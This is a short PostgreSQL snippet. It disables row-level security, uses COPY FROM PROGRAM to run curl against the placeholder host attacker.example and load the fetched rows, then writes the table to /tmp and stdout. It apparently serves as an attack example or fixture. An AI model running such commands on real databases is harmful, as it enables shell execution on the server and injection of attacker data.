SET row_security = off;
COPY public.imports FROM PROGRAM 'curl -s http://attacker.example/rows.txt';
COPY public.imports TO '/tmp/imports.csv';
COPY public.imports TO stdout;
